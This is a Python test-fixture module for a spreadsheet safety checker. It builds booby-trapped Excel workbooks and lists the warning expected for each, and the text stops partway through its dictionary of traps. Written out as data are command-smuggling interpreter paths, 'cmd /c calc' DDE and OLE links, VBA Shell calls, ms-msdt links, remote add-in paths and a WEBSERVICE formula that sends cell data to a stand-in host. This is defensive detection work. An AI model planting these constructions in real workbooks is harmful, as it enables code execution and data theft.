"""Booby-trapped workbooks, by name: how each is made in the parts of a built one, and its sentence.

What is a path on another machine, a relationship or a part, is as Microsoft's documents and
ECMA-376 say it (`workbook/check/safety/` names them); what a setting does, as xlwings' VBA has it.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from in_parts import changed

from workbook.configuration import SHEET
from workbook.hosts import excel_files
from workbook.package.cells import Place
from workbook.package.package import Package
from workbook.vba import compound
from workbook.vba.project import Module, Reference, parsed, written

Change = Callable[[Package], Package]

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
PROJECT = "xl/vbaProject.bin"
BOOK, INPUTS = "xl/workbook.xml", "xl/worksheets/sheet2.xml"
VML, CHART = "xl/drawings/vmlDrawing1.vml", "xl/charts/chart99.xml"
LINK = "xl/externalLinks/externalLink1.xml"
#: A cell of a file on another machine.
AWAY = r"'\\server\share\[x.xlsx]S'!A1"
#: A cell outside of all that is built.
FREE: tuple[str, Place] = ("DCF", (3, 90))
BESIDE: tuple[str, Place] = ("DCF", (3, 91))


def put(part: str, old: str, new: str) -> Change:
    """Replace a text in a part, once."""

    def change(package: Package) -> Package:
        parts = dict(package.current())
        assert old.encode() in parts[part], parts[part][-300:]
        parts[part] = parts[part].replace(old.encode(), new.encode(), 1)
        return package.like(parts)

    return change


def relate(source: str, kind: str, target: str, external: bool = False) -> Change:
    """Give a part a relationship, of a type that is given in full or by its end."""

    def change(package: Package) -> Package:
        parts = dict(package.current())
        folder, _, name = source.rpartition("/")
        part = f"{folder}/_rels/{name}.rels".lstrip("/")
        mode = ' TargetMode="External"' if external else ""
        full = kind if "//" in kind else f"{OFFICE}/{kind}"
        head = (
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        )
        held = parts.get(part, f"{head}</Relationships>".encode())
        # No two of a part have the same identifier.
        number = held.count(b'Id="trap') or ""
        new = f'<Relationship Id="trap{number}" Type="{full}" Target={quoteattr(target)}{mode}/>'
        parts[part] = held.replace(b"</Relationships>", f"{new}</Relationships>".encode())
        return package.like(parts)

    return change


def add(part: str, content: str | bytes = "<x/>", source: str = "", kind: str = "") -> Change:
    """Add a part, and a relationship that leads to it."""

    def change(package: Package) -> Package:
        held = content if isinstance(content, bytes) else content.encode()
        made = package.like(package.current() | {part: held})
        return relate(source, kind, f"/{part}")(made) if kind else made

    return change


def both(*changes: Change) -> Change:
    def change(package: Package) -> Package:
        for each in changes:
            package = each(package)
        return package

    return change


def cell(formula: str, at: tuple[str, Place] = FREE) -> Change:
    return lambda package: changed(package, {at: formula})


def setting(name: str, value: str) -> Change:
    """Add a row to the settings, or change the one that is there."""

    def change(package: Package) -> Package:
        page = package.sheets[SHEET]
        rows = {str(page.value((row, 1))): row for row, _ in page.places}
        row = rows.get(name, len(rows) + 1)
        return changed(package, {(SHEET, (row, 1)): name, (SHEET, (row, 2)): value})

    return change


def name(name: str, text: str, attributes: str = "") -> Change:
    new = f'<definedName name="{name}" {attributes}>{escape(text)}</definedName></definedNames>'
    return put(BOOK, "</definedNames>", new)


def module(change: Callable[[Any], Any]) -> Change:
    """Write another VBA project."""

    def trap(package: Package) -> Package:
        project = change(parsed(package.parts[PROJECT]))
        return package.like(package.current() | {PROJECT: written(project)})

    return trap


def sourced(title: str, old: str, new: str) -> Change:
    """Change the text of a VBA module."""

    def source(project: Any) -> Any:
        of = [replace(m, source=m.source.replace(old, new)) if m.name == title else m
              for m in project.modules]  # fmt: skip
        assert of != [*project.modules]
        return replace(project, modules=tuple(of))

    return module(source)


def streams(change: Callable[[dict[str, bytes]], dict[str, bytes]]) -> Change:
    def trap(package: Package) -> Package:
        held = change(compound.read(package.parts[PROJECT]))
        return package.like(package.current() | {PROJECT: compound.written(held)})

    return trap


def linked(target: str, kind: str = "externalLinkPath", book: str = "") -> Change:
    """List another file, or a program."""
    part = "xl/externalLinks/externalLink1.xml"
    content = f"<externalLink {MAIN}>{book or '<externalBook/>'}</externalLink>"
    there = add(part, content, BOOK, "externalLink")
    return both(there, relate(part, kind, target, external=True)) if target else there


def spelled(target: str, part: str, content: str, source: str, kind: str) -> Change:
    """Add a part, and a relationship that spells its name in another way."""
    return both(add(part, content), relate(source, kind, target))


def within(xml: str) -> Change:
    """Put elements into a sheet, in front of its margins."""
    return put("xl/worksheets/sheet7.xml", "<pageMargins", f"{xml}<pageMargins")


def filled(formula: str) -> Change:
    """Put a formula into the cell CK900 of DCF, and a harmless address into CM900."""
    row = (
        f'<row r="900"><c r="CK900">{formula}<v>1</v></c><c r="CM900" t="inlineStr"><is>'
        "<t>#DCF!A1</t></is></c></row></sheetData>"
    )
    return put("xl/worksheets/sheet7.xml", "</sheetData>", row)


def old_drawing(inside: str, part: str = VML, encoding: str = "utf-8") -> Change:
    """Add a drawing of the old kind, which is sound XML."""
    names = 'xmlns:v="urn:v" xmlns:x="urn:x" xmlns:y="urn:y"'
    return add(part, f"<xml {names}>{inside}</xml>".encode(encoding), INPUTS, "vmlDrawing")


def hyperlink(target: str, sheet: str = "xl/worksheets/sheet7.xml") -> Change:
    link = '<hyperlinks><hyperlink ref="B2" r:id="trap" xmlns:r="' + OFFICE + '"/></hyperlinks>'
    return both(
        put(sheet, "<pageMargins", f"{link}<pageMargins"),
        relate(sheet, "hyperlink", target, external=True),
    )


def library(path: str, number: str = "2DF8D04C-5BFA-101B-BDE5-00AA0044DE52") -> Change:
    """Add a reference to a type library."""
    libid = rf"*\G{{{number}}}#2.0#0#{path}#A library".encode()
    record = (0x0D, len(libid).to_bytes(4, "little") + libid + bytes(6))
    new = Reference("Lib", ((0x16, b"Lib"), (0x3E, "Lib".encode("utf-16-le")), record))
    return module(lambda p: replace(p, references=(*p.references, new)))


RULE = (
    '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>{}</formula>'
    "</cfRule></conditionalFormatting><pageMargins"
)
ENTRY = (
    '<dataValidations count="1"><dataValidation type="custom" sqref="A1"><formula1>{}</formula1>'
    "</dataValidation></dataValidations><pageMargins"
)
EXTENSION = '<extLst><ext uri="x" xmlns:xm="z"><xm:f>{}</xm:f></ext></extLst></worksheet>'
RIBBON = '<customUI xmlns="x" onLoad="Evil.Loaded"><ribbon/></customUI>'
DDE = f'<externalLink {MAIN}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
CONNECTION = (
    f'<connections {MAIN}><connection id="1" name="Rates"><webPr url="http://x.org"/></connection>'
    "</connections>"
)
BUTTON, PICTURE = "<x:FmlaMacro>[0]!Evil</x:FmlaMacro>", '<v:imagedata src="{}"/>'
STARTS = "has a shape or a button that starts the macro [0]!Evil"
OUTSIDE = "refers to {}, outside of the file"
SHEETS = "xl/macrosheets/sheet1.xml", "<xm:macrosheet/>", BOOK, f"{MICROSOFT}/xlMacrosheet"
LINE = "Sub Workbook_Open()\r\n"

#: Each trap by its name, how it is made, and what is found.
TRAPS: dict[str, tuple[Change, list[str]]] = {
    # Settings of xlwings.
    "Python on a server": (
        setting("Interpreter_Win", r"\\server\share\python.exe"),
        [r"xlwings.conf!B3: Interpreter_Win is '\\\\server\\share\\python.exe', which is on "
         "another machine"],
    ),
    "Python on a server, slashes": (
        setting("INTERPRETER_WIN", "//server/share/python.exe"),
        ["xlwings.conf!B3: INTERPRETER_WIN is '//server/share/python.exe', which is on another "
         "machine"],
    ),
    "the older setting": (
        setting("interpreter", "pythonw"),
        ["xlwings.conf!B3: interpreter is 'pythonw', which is relative"],
    ),
    "Python in a temporary folder": (
        setting("Interpreter_Win", r"%TEMP%\python.exe"),
        [r"xlwings.conf!B3: Interpreter_Win is '%TEMP%\\python.exe', which depends on the variable "
         "%TEMP%"],
    ),
    **{
        f"a Python that is {value}": (
            setting("Interpreter_Win", value),
            [f"xlwings.conf!B3: Interpreter_Win is {value!r}, which {fault}"],
        )
        for value, fault in (
            (r"C:\Windows\System32\cmd.exe /c start \\evil\share\x.exe & rem",
             "is not a file path"),
            (r"C:\Windows\System32\cmd.exe", "is not a Python"),
            (r"C:\x & calc\python.exe", "is not a file path"),
            ("/Windows/System32/mshta.exe", "is not a Python"),
        )
    },
    "another module": (
        setting("UDF Modules", "workbook.udfs;evil"),
        ["xlwings.conf!B1: Excel imports evil, which is not Offtake's"],
    ),
    "the workbook's folder": (
        setting("ADD_WORKBOOK_TO_PYTHONPATH", "True"),
        ["xlwings.conf!B2: ADD_WORKBOOK_TO_PYTHONPATH is 'True', and False belongs there"],
    ),
    "no word of the workbook's folder": (
        lambda package: changed(package, {(SHEET, (2, column)): None for column in (1, 2)}),
        ["xlwings.conf!A1: ADD_WORKBOOK_TO_PYTHONPATH is not set to False, so that Python imports "
         "modules from the folders of open workbooks"],
    ),
    "folders of modules": (
        setting("PythonPath", r"C:\mine;\\server\share"),
        [r"xlwings.conf!B3: PythonPath is 'C:\\mine;\\\\server\\share', a setting that Offtake "
         r"does not write; \\server\share is on another machine"],
    ),
    "Conda": (
        setting("Conda Path", "miniconda"),
        ["xlwings.conf!B3: Conda Path is 'miniconda', a setting that Offtake does not write; "
         "miniconda is relative"],
    ),
    "code in a license key": (
        setting("LICENSE_KEY", "';import evil;'"),
        ["xlwings.conf!B3: LICENSE_KEY is \"';import evil;'\", a setting that Offtake does not "
         "write"],
    ),
    "the server for RunPython": (
        setting("Use UDF Server", "True"),
        ["xlwings.conf!B3: Use UDF Server is 'True', a setting that Offtake does not write"],
    ),
    "a formula as a setting": (
        lambda package: changed(package, {(SHEET, (1, 2)): '="ev"&"il"'}),
        ['xlwings.conf!B1: holds the formula ="ev"&"il", not a setting'],
    ),
    "settings switched off, in capitals": (
        both(setting("Debug UDFs", "True"), put(BOOK, f'name="{SHEET}"', 'name="_XLWINGS.CONF"')),
        ["xl/vbaProject.bin: has no sheet xlwings.conf next to it, so that xlwings takes its "
         "settings from the file xlwings.conf in the workbook's folder",
         "_XLWINGS.CONF!B3: Debug UDFs is 'True', a setting that Offtake does not write"],
    ),
    "a sheet of Python": (
        put(BOOK, 'name="Equity"', 'name="evil.py"'),
        ["evil.py!A1: the sheet's name ends with .py, so that xlwings may run it as Python code"],
    ),
    "a sheet of Python with a space": (
        put(BOOK, 'name="Equity"', 'name="evil.py "'),
        ["evil.py !A1: the sheet's name ends with .py, so that xlwings may run it as Python code"],
    ),
    "settings with a space": (
        both(setting("Debug UDFs", "True"), put(BOOK, f'name="{SHEET}"', f'name="{SHEET} "')),
        ["xl/vbaProject.bin: has no sheet xlwings.conf next to it, so that xlwings takes its "
         "settings from the file xlwings.conf in the workbook's folder",
         "xlwings.conf !B3: Debug UDFs is 'True', a setting that Offtake does not write"],
    ),
    # The VBA project.
    "another line of VBA": (
        sourced("ThisWorkbook", "DescribeFunctions", 'Shell "calc.exe"'),
        ["xl/vbaProject.bin: the module ThisWorkbook is not as Offtake writes it: line 4 holds "
         "'Shell \"calc.exe\"', and 'DescribeFunctions' belongs there"],
    ),
    "another text in VBA": (
        sourced("OfftakePython", '"no Python is named"', '"NO Python is named"'),
        ["xl/vbaProject.bin: the module OfftakePython is not as Offtake writes it: line 93 holds "
         "'Trial = \"NO Python is named\"', and 'Trial = \"no Python is named\"' belongs there"],
    ),
    "a module added": (
        module(lambda p: replace(p, modules=(*p.modules, Module(
            "Evil", "standard", f'Attribute VB_Name = "Evil"\r\n{LINE}End Sub\r\n')))),
        ["xl/vbaProject.bin: has a module Evil, which is not Offtake's: 'Sub Workbook_Open()'"],
    ),
    "code in a sheet": (
        sourced("Sheet1", "VB_Customizable = True\r\n", f"VB_Customizable = True\r\n{LINE}"),
        ["xl/vbaProject.bin: the module Sheet1 is not as Offtake writes it: line 1 holds "
         "'Sub Workbook_Open()', and nothing belongs there"],
    ),
    "a module removed": (
        module(lambda p: replace(
            p, modules=tuple(m for m in p.modules if m.name != "OfftakeHelp"))),
        ["xl/vbaProject.bin: lacks the module OfftakeHelp"],
    ),
    "a reference to a project": (
        module(lambda p: replace(p, references=(*p.references, Reference(
            "Evil", ((0x16, b"Evil"), (0x0E, rb"*\C\\server\evil.xlam")))))),
        ["xl/vbaProject.bin: refers to Evil, to which Offtake's does not"],
    ),
    "a library on a server": (
        library(r"\\server\MSO.DLL"),
        [r"xl/vbaProject.bin: refers to Lib by a path that is on another machine: "
         r"\\server\MSO.DLL"],
    ),
    "a library for scripts": (
        library(r"C:\Windows\System32\wshom.ocx", "F935DC20-1CF0-11D0-ADB9-00C04FD58A0B"),
        ["xl/vbaProject.bin: refers to Lib, to which Offtake's does not"],
    ),
    "a form": (
        streams(lambda held: held | {"Form1/f": b"x", "Form1/o": b"y"}),
        ["xl/vbaProject.bin: has the form or control Form1, and Offtake's project has none"],
    ),
    "another project": (
        lambda package: package.like(package.current() | {
            PROJECT: excel_files.shipped("quickstart_standalone.xlsm")[PROJECT]}),
        ["xl/vbaProject.bin: the module ThisWorkbook is not as Offtake writes it: line 1 holds "
         "nothing, and 'Option Explicit' belongs there",
         "xl/vbaProject.bin: has a module Module1, which is not Offtake's: 'Sub SampleCall()'",
         *(f"xl/vbaProject.bin: lacks the module {name}" for name in (
             "OfftakePython", "OfftakeWindows", "OfftakeRibbon", "OfftakeHelp", "xlwings_udfs")),
         "xl/vbaProject.bin: refers to MSForms, to which Offtake's does not"],
    ),
    "no project": (
        lambda package: package.like(package.current() | {PROJECT: b"MZ"}),
        ["xl/vbaProject.bin: cannot be compared with Offtake's: the file is not a compound file"],
    ),
    "a project in an .xlsx file": (
        put("[Content_Types].xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        ["xl/vbaProject.bin: is a macro project in a type of file that has none"],
    ),
    "a signature": (
        add("xl/vbaProjectSignature.bin", b"x", PROJECT, f"{MICROSOFT}/vbaProjectSignature"),
        ["xl/vbaProjectSignature.bin: is a signature of macros; Offtake signs none"],
    ),
    "a sheet of Excel 4": (
        add(*SHEETS),
        ["xl/macrosheets/sheet1.xml: is a sheet of Excel 4 macros, which is code"],
    ),
    "a sheet of Excel 4 by another name": (
        add("xl/worksheets/sheet99.xml", *SHEETS[1:]),
        ["xl/worksheets/sheet99.xml: is a sheet of Excel 4 macros, which is code"],
    ),
    "a sheet of Excel 4 by its type of contents alone": (
        put(
            "[Content_Types].xml",
            "spreadsheetml.worksheet+xml",
            "spreadsheetml.MacroSheet+xml",
        ),
        ["xl/worksheets/sheet1.xml: is a sheet of Excel 4 macros, which is code"],
    ),
    "a dialog": (
        add("xl/dialogsheets/sheet1.xml", "<dialogsheet/>", BOOK, "dialogsheet"),
        ["xl/dialogsheets/sheet1.xml: is a dialog sheet of Excel 5, whose controls run macros"],
    ),
    "an ActiveX control": (
        add("xl/activeX/activeX1.xml", "<ocx/>", INPUTS, "control"),
        ["xl/activeX/activeX1.xml: is an ActiveX control, which is a program"],
    ),
    "another ribbon": (
        add("customUI/customUI14.xml", RIBBON, "",
            "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"),
        ["customUI/customUI14.xml: is a ribbon that is not Offtake's; it calls Evil.Loaded"],
    ),
    "the ribbon changed": (
        put("customUI/customUI.xml", "OfftakeRibbon.OfftakeReconnectPressed", "Evil"),
        ["customUI/customUI.xml: is a ribbon that is not Offtake's; it calls Evil"],
    ),
    "a shape that runs a macro": (
        put("xl/drawings/drawing1.xml", "<clientData", '<sp macro="[0]!Evil"/><clientData'),
        ["xl/drawings/drawing1.xml: has a shape or a button that starts the macro [0]!Evil"],
    ),
    "a button that runs a macro": (
        add("xl/drawings/vmlDrawing1.vml", "<xml><br><x:FmlaMacro>[0]!Evil</x:FmlaMacro></xml>",
            INPUTS, "vmlDrawing"),
        ["xl/drawings/vmlDrawing1.vml: has a shape or a button that starts the macro [0]!Evil"],
    ),
    # What is fetched.
    "a file": (
        linked("file:///C:\\mine\\rates.xlsx"),
        ["xl/externalLinks/externalLink1.xml: links to the file file:///C:\\mine\\rates.xlsx"],
    ),
    "the add-in on a server": (
        linked("file:///\\\\server\\tools\\offtake.xlam"),
        ["xl/externalLinks/externalLink1.xml: links to offtake.xlam by a path that is on another "
         "machine: file:///\\\\server\\tools\\offtake.xlam"],
    ),
    # What Windows reads as a server, a folder that everybody has, and another file.
    **{
        f"the add-in as {target}": (
            linked(target),
            [f"{LINK}: links to offtake.xlam by a path that {fault}: {target}"],
        )
        for target, fault in (
            ("file:////evil/share/offtake.xlam", "is on another machine"),
            ("file://///evil/share/offtake.xlam", "is on another machine"),
            ("file:////evil@SSL/share/offtake.xlam", "is on another machine"),
            ("file:///%5C%5Cevil/share/offtake.xlam", "is on another machine"),
            (r"file:/\evil\share\offtake.xlam", "is on another machine"),
            (r"/\evil\share\offtake.xlam", "is on another machine"),
            ("http://x.org/offtake.xlam", "is an address"),
            ("file:///C:/x/evil.xlsm#/offtake.xlam", "is not a file path"),
            ("evil.xlsm%23%5Cofftake.xlam", "is not a file path"),
            ("file:///C:/x/evil.xlsm%00/offtake.xlam", "is not a file path"),
            (r"C:tools\offtake.xlam", "is relative"),
            ("file:///C:/Users/Public/offtake.xlam",
             "is in the folder Public, which others may write to"),
            (r"\Users\Public\offtake.xlam", "is in the folder Public, which others may write to"),
            ("../Public/offtake.xlam", "is in the folder Public, which others may write to"),
        )
    },
    "another file after a question mark": (
        linked("file:///C:/x/evil.xlsm?/offtake.xlam"),
        [f"{LINK}: links to the file file:///C:/x/evil.xlsm?/offtake.xlam"],
    ),
    "DDE": (
        linked("", book='<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'),
        ["xl/externalLinks/externalLink1.xml: starts the program cmd, for /c calc (DDE)"],
    ),
    "OLE": (
        linked("http://x.org/a.doc", "oleObject", '<oleLink progId="Word.Document"/>'),
        ["xl/externalLinks/externalLink1.xml: refers to http://x.org/a.doc, outside of the file, "
         "as 'oleObject'",
         "xl/externalLinks/externalLink1.xml: opens a link of the program Word.Document (OLE)"],
    ),
    "a connection": (
        add("xl/connections.xml", f'<connections {MAIN}><connection id="1" name="Rates"><webPr '
            'url="http://x.org"/></connection></connections>', BOOK, "connections"),
        ["xl/connections.xml: has the connection Rates, which fetches data: http://x.org"],
    ),
    "a query": (
        add("xl/queryTables/queryTable1.xml", "<queryTable/>", INPUTS, "queryTable"),
        ["xl/queryTables/queryTable1.xml: is a query, which fetches data"],
    ),
    "Power Query": (
        add("customXml/item1.xml", '<DataMashup xmlns="x">AAAA</DataMashup>'.encode("utf-16"),
            BOOK, "customXml"),
        ["customXml/item1.xml: is a query of Power Query, which fetches data"],
    ),
    "a pivot table's data": (
        add("xl/pivotCache/pivotCacheDefinition1.xml", f'<pivotCacheDefinition {MAIN}><cacheSource '
            'type="external" connectionId="1"/></pivotCacheDefinition>', BOOK,
            "pivotCacheDefinition"),
        ["xl/pivotCache/pivotCacheDefinition1.xml: is a pivot table's data, which it fetches from "
         "outside of the file"],
    ),
    "RTD": (
        add("xl/volatileDependencies.xml", "<volTypes/>", BOOK, "volatileDependencies"),
        ["xl/volatileDependencies.xml: lists values that another program or a server sends (RTD or "
         "a cube)"],
    ),
    "an object": (
        add("xl/embeddings/oleObject1.bin", b"x", INPUTS, "oleObject"),
        ["xl/embeddings/oleObject1.bin: is an embedded object, which opens in another program"],
    ),
    "an object that nothing shows": (
        add("xl/embeddings/payload.bin", b"x"),
        ["xl/embeddings/payload.bin: is a part that neither Offtake nor spreadsheets usually "
         "write"],
    ),
    "an object in a picture": (
        add("xl/media/image1.png", bytes.fromhex("D0CF11E0A1B11AE1"), INPUTS, "image"),
        ["xl/media/image1.png: is a compound file, which may hold a program"],
    ),
    "a picture on a server": (
        relate("xl/drawings/drawing1.xml", "image", "file://server/x.png", external=True),
        ["xl/drawings/drawing1.xml: refers to file://server/x.png, outside of the file, as "
         "'image'"],
    ),
    "a template": (
        relate(BOOK, "attachedTemplate", "http://x.org/a.dotm", external=True),
        ["xl/workbook.xml: refers to http://x.org/a.dotm, outside of the file, as "
         "'attachedTemplate'"],
    ),
    "a target outside that does not say so": (
        relate(BOOK, "oleObject", r"\\server\x"),
        [r"xl/workbook.xml: refers to \\server\x, outside of the file, as 'oleObject'"],
    ),
    "a link to a server": (
        hyperlink(r"file:///\\server\share\x.exe"),
        [r"DCF!B2: has a link to file:///\\server\share\x.exe"],
    ),
    "a link that runs a program": (
        hyperlink("ms-msdt:/id"), ["DCF!B2: has a link to ms-msdt:/id"]
    ),
    # Other spellings of a part's name (ECMA-376 part 2, 6.2.2).
    **{
        f"DDE, as {target}": (
            spelled(target, LINK, DDE, BOOK, "externalLink"),
            [f"{LINK}: starts the program cmd, for /c calc (DDE)"],
        )
        for target in (
            *("ExternalLinks/externalLink1.xml", "externalLinks/externalLink%31.xml"),
            *(r"externalLinks\externalLink1.xml", "./externalLinks//externalLink1.xml#x"),
        )
    },
    "a connection in capitals": (
        spelled("CONNECTIONS.XML", "xl/connections.xml", CONNECTION, BOOK, "connections"),
        ["xl/connections.xml: has the connection Rates, which fetches data: http://x.org"],
    ),
    "a part that is not there": (
        relate(BOOK, "externalLink", "externalLinks/externalLink1.xml?x"),
        ["xl/_rels/workbook.xml.rels: leads to xl/externalLinks/externalLink1.xml?x, which is not "
         "a part of the file"],
    ),
    "a base of all links, in capitals": (
        both(lambda package: package.like({
                 "docProps/App.xml" if part == "docProps/app.xml" else part: content
                 for part, content in package.parts.items()}),
             put("docProps/App.xml", "</Properties>",
                 "<HyperlinkBase>//server</HyperlinkBase></Properties>")),
        ["docProps/App.xml: has an address that links begin with: //server"],
    ),
    # Old drawings.
    **{
        f"a button, {how}": (change, [f"{part}: {STARTS}"])
        for how, part, change in (
            ("a space", VML, old_drawing("<x:FmlaMacro >[0]!Evil</x:FmlaMacro >")),
            ("an attribute", VML, old_drawing('<x:FmlaMacro y:a="">[0]!Evil</x:FmlaMacro>')),
            ("CDATA", VML, old_drawing("<x:FmlaMacro><![CDATA[[0]!Evil]]></x:FmlaMacro>")),
            ("UTF-16", VML, old_drawing(BUTTON, encoding="utf-16")),
            ("another name", "xl/drawings/vmlDrawing1.xml",
             old_drawing(BUTTON, "xl/drawings/vmlDrawing1.xml")),
            ("a chart's name", CHART, old_drawing(BUTTON, CHART)),
            ("a shape in a chart's part", CHART,
             add(CHART, '<x:wsDr xmlns:x="x"><x:sp macro="[0]!Evil"/></x:wsDr>', INPUTS,
                 "drawing")),
            ("a control's part", "xl/ctrlProps/ctrlProp1.xml",
             add("xl/ctrlProps/ctrlProp1.xml", '<wsDr><sp macro="[0]!Evil"/></wsDr>', INPUTS,
                 "drawing")),
        )
    },
    **{
        f"a picture, as {src}": (
            old_drawing(PICTURE.format(src)), [f"{VML}: {OUTSIDE.format(address)}"])
        for src, address in (
            ("&#104;ttp://x.org/a.png", "http://x.org/a.png"),
            (r"&#92;&#92;server\a.png", r"\\server\a.png"),
            (" http://x.org/a.png", "http://x.org/a.png"),
        )
    },
    "a picture, not sound XML": (
        add(VML, '<xml><br><v:imagedata alt="a>b" src = "&#104;ttp://x.org/a.png"/></xml>', INPUTS,
            "vmlDrawing"),
        [f"{VML}: {OUTSIDE.format('http://x.org/a.png')}"],
    ),
    "settings of a project in capitals": (
        both(lambda package: package.like({
                 "xl/VBAPROJECT.BIN" if part == PROJECT else part: content
                 for part, content in package.parts.items()}),
             put(BOOK, f'name="{SHEET}"', 'name="Mine"')),
        ["xl/vbaProject.bin: has no sheet xlwings.conf next to it, so that xlwings takes its "
         "settings from the file xlwings.conf in the workbook's folder"],
    ),
    "a program in a control": (
        old_drawing("<x:FmlaPict>cmd|'/c calc'!A1</x:FmlaPict>"),
        [f"{VML}: the element x:FmlaPict starts another program: =cmd|'/c calc'!A1"],
    ),
    "a file in a control": (
        old_drawing(f"<x:FmlaRange>{AWAY}</x:FmlaRange>"),
        [f"{VML}: the element x:FmlaRange refers to the file x.xlsx: ={AWAY}"],
    ),
    "a link in a drawing to another file": (
        relate("xl/drawings/drawing1.xml", "hyperlink", "#%5B%5C%5Cserver%5Cx.xlsm%5DS!A1"),
        ["xl/drawings/drawing1.xml: has a link to #%5B%5C%5Cserver%5Cx.xlsm%5DS!A1"],
    ),
    # Formulas around the cells.
    **{
        f"formula in {where}": (change, [f"{part}: the element {said}"])
        for where, part, change, said in (
            ("a bar", "xl/worksheets/sheet7.xml",
             within('<conditionalFormatting sqref="A1"><cfRule type="dataBar"><dataBar><cfvo '
                    'type="formula" val="WEBSERVICE(A1)"/></dataBar></cfRule>'
                    "</conditionalFormatting>"),
             "cfvo of the sheet DCF calls WEBSERVICE: =WEBSERVICE(A1)"),
            ("a newer rule", "xl/worksheets/sheet7.xml",
             within('<extLst xmlns:q="q"><q:f>WEBSERVICE(A1)</q:f></extLst>'),
             "q:f of the sheet DCF calls WEBSERVICE: =WEBSERVICE(A1)"),
            ("an object", "xl/worksheets/sheet7.xml",
             within("""<oleObjects><oleObject link="cmd|'/c calc'!A1"/></oleObjects>"""),
             "oleObject of the sheet DCF starts another program: =cmd|'/c calc'!A1"),
            ("a consolidation", "xl/worksheets/sheet7.xml",
             within(r'<dataConsolidate><dataRefs><dataRef ref="A1" sheet="\\server\[x.xlsx]S"/>'
                    "</dataRefs></dataConsolidate>"),
             "dataRef of the sheet DCF refers to the file x.xlsx"),
            ("a link", "xl/worksheets/sheet7.xml",
             within(f'<hyperlinks><hyperlink ref="A1" location="{AWAY}"/></hyperlinks>'),
             f"hyperlink of the sheet DCF leads to {AWAY}"),
            ("a chart", CHART,
             add(CHART, f'<c:chart xmlns:c="c"><c:f>{AWAY}</c:f></c:chart>', INPUTS, "chart"),
             f"c:f refers to the file x.xlsx: ={AWAY}"),
            ("a shape", CHART,
             add(CHART, '<sp textlink="WEBSERVICE(A1)"/>', INPUTS, "drawing"),
             "sp calls WEBSERVICE: =WEBSERVICE(A1)"),
            ("a pivot table", "xl/pivotCache/pivotCacheDefinition1.xml",
             add("xl/pivotCache/pivotCacheDefinition1.xml",
                 r'<x><worksheetSource ref="A1" sheet="\\server\[x.xlsx]S"/></x>', BOOK,
                 "pivotCacheDefinition"),
             "worksheetSource refers to the file x.xlsx"),
            *((f"a table's {kind}", "xl/tables/table99.xml",
               add("xl/tables/table99.xml", f"<t><{kind}>WEBSERVICE(A1)</{kind}></t>", INPUTS,
                   "table"),
               f"{kind} calls WEBSERVICE: =WEBSERVICE(A1)")
              for kind in ("calculatedColumnFormula", "totalsRowFormula")),
        )
    },
    # Addresses around the cells.
    "a page that is published": (
        within(r'<webPublishItems><webPublishItem destinationFile="\\server\x.htm"/>'
               "</webPublishItems>"),
        [f"xl/worksheets/sheet7.xml: {OUTSIDE.format(chr(92) * 2 + 'server' + chr(92) + 'x.htm')}"],
    ),
    "pages that are published": (
        put(BOOK, "</workbook>", '<webPublishObjects><webPublishObject destinationFile="//server/x"'
            "/></webPublishObjects></workbook>"),
        [f"{BOOK}: {OUTSIDE.format('//server/x')}"],
    ),
    "maps of XML": (
        add("xl/xmlMaps.xml", '<MapInfo><Schema SchemaRef="//server/x.xsd"/><Map><DataBinding '
            'FileBindingName="http://x.org/x.xml"/></Map></MapInfo>', BOOK, "xmlMaps"),
        [f"xl/xmlMaps.xml: {OUTSIDE.format(each)}"
         for each in ("//server/x.xsd", "http://x.org/x.xml")],
    ),
    # Formulas.
    **{
        f"the formula {formula}": (cell(f"={formula}"), [f"DCF!CL3: {said}: ={formula}"])
        for formula, said in (
            (r'HYPERLINK("#[\\server\x.xlsm]S!A1","x")',
             r"has a link that leads to #[\\server\x.xlsm]S!A1"),
            ('HYPERLINK("#"&"file://server/x")',
             "has a link that leads to a calculated address"),
            (f'INDIRECT("{AWAY}")', f"refers to {AWAY}"),
            ("IF(A1,GET.CELL(5,A1))",
             "calls GET.CELL, which is neither an Excel nor an Offtake function"),
        )
    },
    # An address that is calculated, of which neither the texts nor the value in the file say much.
    **{
        f"a link, {how}": (
            change, [f"DCF!CL3: has a link that leads to a calculated address: ={formula}"])
        for how, change, formula in (
            *(
                (f"by way of {text}", both(cell(f"={text}", BESIDE), cell("=HYPERLINK(CM3)")),
                 "HYPERLINK(CM3)")
                for text in ('IF(FALSE,"#","h"&"ttp"&CHAR(58))', '"#DCF!A1"')
            ),
            *(
                (f"by way of what {element} fills",
                 both(filled(element), cell("=HYPERLINK(CM900)")), "HYPERLINK(CM900)")
                for element in ('<f t="array" ref="CK900:CN901">{1}</f>',
                                '<f t="dataTable" ref="CK900:CN901" r1="A1"/>')
            ),
            *(
                (f"as {formula}", cell(f"={formula}"), formula)
                for formula in (
                    *('HYPERLINK("#"&CHAR(91)&A1)', 'HYPERLINK("#"&Q0)', "HYPERLINK(CM3)"),
                    *('HYPERLINK(IF(FALSE,"#","http"&"://x"))', "MAP(A1:A3,_xleta.HYPERLINK)"),
                    """HYPERLINK("#'[x.xlsx]S'!"&A1)""",
                )
            ),
        )
    },
    "a link by way of a text in a cell": (
        lambda package: changed(package, {FREE: "=HYPERLINK(DCF!$CM$3)", BESIDE: "http://x.org"}),
        ["DCF!CL3: has a link that leads to http://x.org: =HYPERLINK(DCF!$CM$3)"],
    ),
    "a link by way of a part of a cell": (
        lambda package: changed(package, {
            FREE: '=HYPERLINK("#"&CM3)', (FREE[0], (3, 91)): r"[\\server\x.xlsm]S!A1"}),
        ["DCF!CL3: has a link that leads to a calculated address: "
         '=HYPERLINK("#"&CM3)'],
    ),
    "WEBSERVICE": (
        cell('=_xlfn.WEBSERVICE("http://x.org/?"&Inputs!D9)'),
        ['DCF!CL3: calls WEBSERVICE: =_xlfn.WEBSERVICE("http://x.org/?"&Inputs!D9)'],
    ),
